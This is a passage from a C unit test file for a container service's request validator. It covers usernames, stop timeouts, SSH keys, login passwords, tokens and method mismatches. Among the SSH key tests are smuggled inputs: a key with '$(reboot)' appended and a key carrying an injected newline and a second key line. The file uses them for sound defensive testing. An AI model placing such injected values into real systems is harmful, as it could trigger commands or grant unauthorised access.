	assert_fails_with(validate_request(METHOD_GET_METRICS, &metrics.base, err, sizeof(err)),
	    err, "username: ");
	assert_int_equal(validate_request(METHOD_GET_SYSTEM_INFO, &info.base, err, sizeof(err)), 0);
}

static void test_request_stop(void **state)
{
	Containarium__V1__StopContainerRequest req = CONTAINARIUM__V1__STOP_CONTAINER_REQUEST__INIT;
	char err[ERR_SIZE];

	(void)state;
	req.username = "alice";
	assert_int_equal(validate_request(METHOD_STOP_CONTAINER, &req.base, err, sizeof(err)), 0);
	req.timeout = VALIDATE_STOP_TIMEOUT_MAX;
	assert_int_equal(validate_request(METHOD_STOP_CONTAINER, &req.base, err, sizeof(err)), 0);
	req.timeout = VALIDATE_STOP_TIMEOUT_MAX + 1;
	assert_fails_with(validate_request(METHOD_STOP_CONTAINER, &req.base, err, sizeof(err)),
	    err, "timeout: 3601 is out of range (0..3600 seconds)");
	req.timeout = -1;
	assert_fails_with(validate_request(METHOD_STOP_CONTAINER, &req.base, err, sizeof(err)),
	    err, "timeout: -1 is out of range");
	req.timeout = 10;
	req.username = "";
	assert_fails_with(validate_request(METHOD_STOP_CONTAINER, &req.base, err, sizeof(err)),
	    err, "username: must not be empty");
}

static void test_request_ssh_key(void **state)
{
	Containarium__V1__AddSSHKeyRequest add = CONTAINARIUM__V1__ADD_SSHKEY_REQUEST__INIT;
	Containarium__V1__RemoveSSHKeyRequest del = CONTAINARIUM__V1__REMOVE_SSHKEY_REQUEST__INIT;
	char err[ERR_SIZE];

	(void)state;
	add.username = del.username = "alice";
	assert_fails_with(validate_request(METHOD_ADD_SSH_KEY, &add.base, err, sizeof(err)),
	    err, "ssh_public_key: must not be empty");
	add.ssh_public_key = KEY_ED25519 " $(reboot)";
	assert_int_equal(validate_request(METHOD_ADD_SSH_KEY, &add.base, err, sizeof(err)), 0);
	add.ssh_public_key = KEY_ED25519 "\nssh-rsa AAAA injected";
	assert_fails_with(validate_request(METHOD_ADD_SSH_KEY, &add.base, err, sizeof(err)),
	    err, "ssh_public_key: contains a newline");
	add.ssh_public_key = "ssh-dss AAAAB3NzaC1kc3M=";
	assert_fails_with(validate_request(METHOD_ADD_SSH_KEY, &add.base, err, sizeof(err)),
	    err, "ssh_public_key: not an OpenSSH public key");
	add.ssh_public_key = KEY_ED25519;
	add.username = "";
	assert_fails_with(validate_request(METHOD_ADD_SSH_KEY, &add.base, err, sizeof(err)),
	    err, "username: must not be empty");

	/* Removing checks the key exactly as adding does. */
	assert_fails_with(validate_request(METHOD_REMOVE_SSH_KEY, &del.base, err, sizeof(err)),
	    err, "ssh_public_key: must not be empty");
	del.ssh_public_key = "ssh-dss AAAAB3NzaC1kc3M= legacy";
	assert_fails_with(validate_request(METHOD_REMOVE_SSH_KEY, &del.base, err, sizeof(err)),
	    err, "ssh_public_key: not an OpenSSH public key");
	del.ssh_public_key = KEY_ED25519 " a comment";
	assert_int_equal(validate_request(METHOD_REMOVE_SSH_KEY, &del.base, err, sizeof(err)), 0);
	del.ssh_public_key = KEY_ED25519 "\n";
	assert_fails_with(validate_request(METHOD_REMOVE_SSH_KEY, &del.base, err, sizeof(err)),
	    err, "ssh_public_key: contains a newline");
	del.ssh_public_key = KEY_ED25519;
	del.username = "9lives";
	assert_fails_with(validate_request(METHOD_REMOVE_SSH_KEY, &del.base, err, sizeof(err)),
	    err, "username: must start with a lowercase letter");
}

static void test_request_auth(void **state)
{
	Containarium__V1__LoginRequest login = CONTAINARIUM__V1__LOGIN_REQUEST__INIT;
	Containarium__V1__ValidateTokenRequest token = CONTAINARIUM__V1__VALIDATE_TOKEN_REQUEST__INIT;
	char err[ERR_SIZE];
	char *long_password = repeat('p', VALIDATE_PASSWORD_MAX + 1);
	char *long_token = repeat('t', VALIDATE_TOKEN_MAX + 1);

	(void)state;
	login.username = "alice";
	assert_fails_with(validate_request(METHOD_LOGIN, &login.base, err, sizeof(err)),
	    err, "password: must not be empty");
	login.password = "correct horse";
	assert_int_equal(validate_request(METHOD_LOGIN, &login.base, err, sizeof(err)), 0);
	login.password = long_password;
	assert_fails_with(validate_request(METHOD_LOGIN, &login.base, err, sizeof(err)),
	    err, "password: longer than 1024 bytes");
	assert_null(strstr(err, "ppp"));
	long_password[VALIDATE_PASSWORD_MAX] = '\0';
	assert_int_equal(validate_request(METHOD_LOGIN, &login.base, err, sizeof(err)), 0);
	login.username = "Alice";
	login.password = "secret-password";
	assert_fails_with(validate_request(METHOD_LOGIN, &login.base, err, sizeof(err)),
	    err, "username: ");
	assert_null(strstr(err, "secret"));

	assert_fails_with(validate_request(METHOD_VALIDATE_TOKEN, &token.base, err, sizeof(err)),
	    err, "token: must not be empty");
	token.token = long_token;
	assert_fails_with(validate_request(METHOD_VALIDATE_TOKEN, &token.base, err, sizeof(err)),
	    err, "token: longer than 8192 bytes");
	assert_null(strstr(err, "ttt"));
	long_token[VALIDATE_TOKEN_MAX] = '\0';
	assert_int_equal(validate_request(METHOD_VALIDATE_TOKEN, &token.base, err, sizeof(err)), 0);
	free(long_password);
	free(long_token);
}

static void test_request_mismatch(void **state)
{
	Containarium__V1__GetContainerRequest get = CONTAINARIUM__V1__GET_CONTAINER_REQUEST__INIT;
	char err[ERR_SIZE];

	(void)state;
	get.username = "alice";
	assert_fails_with(validate_request(METHOD_CREATE_CONTAINER, &get.base, err, sizeof(err)),
	    err, "request: is not a CreateContainer request");
	assert_fails_with(validate_request(METHOD_GET_CONTAINER, NULL, err, sizeof(err)),
	    err, "request: is not a GetContainer request");
	assert_fails_with(validate_request(0, &get.base, err, sizeof(err)),
	    err, "request: unknown method 0");
	assert_fails_with(validate_request(METHOD_MAX + 1, &get.base, err, sizeof(err)),
	    err, "request: unknown method");
	assert_fails_with(validate_request(64, &get.base, err, sizeof(err)),
	    err, "request: unknown method 64");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_username),
		cmocka_unit_test(test_error_buffer),
		cmocka_unit_test(test_echo),
		cmocka_unit_test(test_size),
		cmocka_unit_test(test_cpu),
		cmocka_unit_test(test_image),
		cmocka_unit_test(test_labels),
		cmocka_unit_test(test_ssh_key_valid),
		cmocka_unit_test(test_ssh_key_crafted),
		cmocka_unit_test(test_ssh_key_invalid),
		cmocka_unit_test(test_request_create),
		cmocka_unit_test(test_request_create_wire),
		cmocka_unit_test(test_request_list),
		cmocka_unit_test(test_request_username_only),
		cmocka_unit_test(test_request_stop),
		cmocka_unit_test(test_request_ssh_key),
		cmocka_unit_test(test_request_auth),
		cmocka_unit_test(test_request_mismatch),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
